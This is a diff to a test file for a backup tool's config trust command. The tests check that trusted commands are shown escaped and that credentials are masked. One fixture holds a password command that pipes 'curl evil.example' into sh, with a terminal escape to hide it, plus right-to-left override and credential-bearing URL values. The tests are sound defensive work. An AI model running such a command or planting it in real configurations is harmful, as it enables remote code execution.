@@ -121,7 +121,7 @@ describe('triplicate config', () => {
     expect((await type('config', 'show')).code).toBe(2);
     expect(await type('config', 'trust')).toMatchObject({
       code: 0,
-      out: '~/clone/triplicate.yaml is trusted, until it changes, to run\n  ~/clone/triplicate.yaml:5:28: pipelines.home.encrypt.password.command\n',
+      out: '~/clone/triplicate.yaml is trusted, until it changes, to run\n  ~/clone/triplicate.yaml:5:28: pipelines.home.encrypt.password.command: pass show hunter2\n',
     });
     const { code, out } = await type('config', 'show');
     expect(code).toBe(0);
@@ -132,6 +132,41 @@ describe('triplicate config', () => {
     });
     await type('config', 'trust', '--remove');
     expect((await type('config', 'check')).code).toBe(2);
+  });
+
+  it('trust prints the program with its arguments, or the path of the plugin, of all that it allows', async () => {
+    await write(`version: 1
+plugins: [./evil source.ts, triplicate-dest-tape]
+pipelines:
+  home:
+    sources: { docs: { type: files, paths: [~/docs] } }
+    encrypt: { password: { command: [sh, -c, "curl evil.example | sh\\n\\e[2K"] } }
+    destinations:
+      disk: { type: rest, remote: "gdrive:backups", program: ./rclone }
+      web: { type: rest, url: "https://nas.example.org", password: { command: ["https://anna:hunter2@x/y"] } }
+    hooks: { before: [touch, ran], after: ["./a b", "", "x\\u202Ey"], timeout: 10m }
+`);
+    const { code, out } = await type('config', 'trust');
+    expect(code).toBe(0);
+    const told = out.split('\n').slice(1, -1);
+    expect(told.map((line) => line.replace(/^.*yaml:\d+:\d+: /, ''))).toEqual([
+      'plugins[0]: "./evil source.ts"',
+      'plugins[1]: triplicate-dest-tape',
+      String.raw`pipelines.home.encrypt.password.command: sh -c "curl evil.example | sh\n\u001b[2K"`,
+      'pipelines.home.destinations.disk.remote: gdrive:backups',
+      'pipelines.home.destinations.disk.program: ./rclone',
+      'pipelines.home.destinations.web.password.command: https:***@x/y',
+      'pipelines.home.hooks.before: touch ran',
+      String.raw`pipelines.home.hooks.after: "./a b" "" "x\u{202e}y"`,
+    ]);
+    const line = schemas.trust.parse(JSON.parse((await type('config', 'trust', '--json')).out));
+    expect(line).toMatchObject({ trusted: true, runs: 8 });
+    expect(line.code[6]).toEqual({
+      line: 10,
+      column: 5,
+      path: 'pipelines.home.hooks.before',
+      command: ['touch', 'ran'],
+    });
   });
 
   it('takes no other word', async () => {
